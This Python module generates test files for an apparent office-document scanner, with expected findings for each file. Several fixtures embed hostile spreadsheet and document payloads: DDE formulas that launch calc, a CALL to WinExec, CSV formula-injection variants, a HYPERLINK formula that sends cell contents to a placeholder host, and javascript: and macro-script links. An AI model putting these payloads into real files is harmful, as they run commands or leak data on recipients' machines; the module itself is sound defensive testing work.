"""Workbooks, presentations and OpenDocument that somebody might send, made on the spot."""

from __future__ import annotations

from collections.abc import Iterator

from case import CHILDREN, ELSEWHERE, NUMBER, RUN, Case, of
from containers import core, odt, pptx, relation, relations, row, xlsx


def sheets() -> Iterator[Case]:
    yield of("webservice.xlsx", xlsx(row(f'=WEBSERVICE("{ELSEWHERE}")')), "sheet-formula")
    yield of("dde.xlsx", xlsx(row("=cmd|' /C calc'!A0")), "sheet-formula")
    yield of(
        "hyperlink-formula.xlsx",
        xlsx(row(f'=HYPERLINK("{ELSEWHERE}?"&amp;A1,"x")')),
        "sheet-formula",
    )
    yield of("call.xlsx", xlsx(row('=CALL("kernel32","WinExec","JFJ","calc")')), "sheet-formula")
    yield of("other-book.xlsx", xlsx(row("='[secret.xlsx]Sheet1'!A1")), "sheet-formula")
    yield of("image-formula.xlsx", xlsx(row(f'=IMAGE("{ELSEWHERE}")')), "sheet-formula")
    name = (
        '<sheets><sheet name="x"/></sheets><definedNames><definedName name="a">'
        'CALL("x")</definedName></definedNames>'
    )
    yield of("name-formula.xlsx", xlsx(book=name), "sheet-formula")
    yield of(
        "external-link.xlsx",
        xlsx(more={"xl/externalLinks/externalLink1.xml": "<x/>"}),
        "sheet-outside",
    )
    yield of("connection.xlsx", xlsx(more={"xl/connections.xml": "<x/>"}), "sheet-outside")
    hidden = '<sheets><sheet name="Балалар" state="veryHidden"/></sheets>'
    yield of("hidden-sheet.xlsx", xlsx(book=hidden), "sheet-hidden", warned=True)
    yield of("hidden-column.xlsx", xlsx('<col hidden="1"/>'), "sheet-hidden", warned=True)
    yield of("macro-sheet.xlsx", xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}), "office-macro")
    listed = "".join(row(str(n), name, "2 «Б» сынып") for n, name in enumerate(CHILDREN, 1))
    yield of("class-list.xlsx", xlsx(row("№", "Оқушының аты-жөні") + listed), "privacy-class-list")
    yield of("number.xlsx", xlsx(f"<row><c><v>{NUMBER}</v></c></row>"), "privacy-number")
    yield of("phones.xlsx", xlsx(row("Анасы", "8 701 123 45 67")), "privacy-phone")
    for number, cell in enumerate(
        (
            "=cmd|'/C calc'!A0",
            "+cmd|'/C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '"\t=1+1"',
            "＝1+1",
            f'"=HYPERLINK(""{ELSEWHERE}"")"',
        )
    ):
        yield of(f"formula-{number}.csv", f"аты;саны\nкубик;{cell}\n".encode(), "sheet-formula")
    yield of(
        "class-list.csv",
        "\n".join(("Оқушының аты-жөні;сынып", *(f"{n};2" for n in CHILDREN))).encode(),
        "privacy-class-list",
    )
    # Harmless.
    yield of("numbers.csv", "а;б;в\n-5;+7;- жоқ\n-3,5 %;12;+7 7172 74 25 00\n".encode())
    yield of("sum.xlsx", xlsx(row("=SUM(A1:A9)", '=IF(A1>2,"көп","аз")')))


def other_office() -> Iterator[Case]:
    slide = "ppt/slides/_rels/slide1.xml.rels"
    yield of(
        "media-outside.pptx",
        pptx(more={slide: relations(relation("video", ELSEWHERE, "External"))}),
        "office-outside",
    )
    yield of(
        "action.pptx",
        pptx(more={slide: relations(relation("hyperlink", "calc.exe", "External"))}),
        "office-outside",
    )
    yield of("macro.pptx", pptx(more={"ppt/vbaProject.bin": b"\0"}), "office-macro")
    yield of("list.pptx", pptx(f"Оқушылар: {', '.join(CHILDREN)}"), "privacy-class-list")
    notes = f"<notes><p><r><t>{NUMBER}</t></r></p></notes>"
    yield of("notes.pptx", pptx(more={"ppt/notesSlides/notesSlide1.xml": notes}), "privacy-number")
    yield of("author.pptx", pptx(more=core(creator="Иванова А.")), "file-author", warned=True)
    yield of("basic.odt", odt(more={"Basic/Standard/Module1.xml": "<x/>"}), "office-macro")
    yield of(
        "event.odt", odt('<script:event-listener script:language="ooo:script"/>'), "office-macro"
    )
    yield of("object.odt", odt(more={"Object 1/content.xml": "<x/>"}), "office-embedded")
    yield of("image-outside.odt", odt(f'<draw:image xlink:href="{ELSEWHERE}"/>'), "office-outside")
    yield of(
        "script-link.odt",
        odt(f'<text:a xlink:href="javascript:{RUN}">x</text:a>'),
        "office-outside",
    )
    yield of(
        "macro-link.odt",
        odt('<text:a xlink:href="vnd.sun.star.script:x">x</text:a>'),
        "office-outside",
    )
    yield of(
        "encrypted.odt",
        odt(more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "file-locked",
    )
    yield of(
        "changes.odt",
        odt("<text:tracked-changes><text:changed-region/></text:tracked-changes>"),
        "file-changes",
    )
    yield of(
        "remark.odt",
        odt("<office:annotation><text:p>Сөз</text:p></office:annotation>"),
        "file-comments",
    )
    yield of("number.odt", odt(f"<text:p>ИИН {NUMBER}</text:p>"), "privacy-number")
    yield of(
        "author.odt",
        odt(more={"meta.xml": "<m><initial-creator>Асанова А.</initial-creator></m>"}),
        "file-author",
        warned=True,
    )
    yield of("plain.odt", odt('<text:a xlink:href="https://edu.kz">сілтеме</text:a>'))
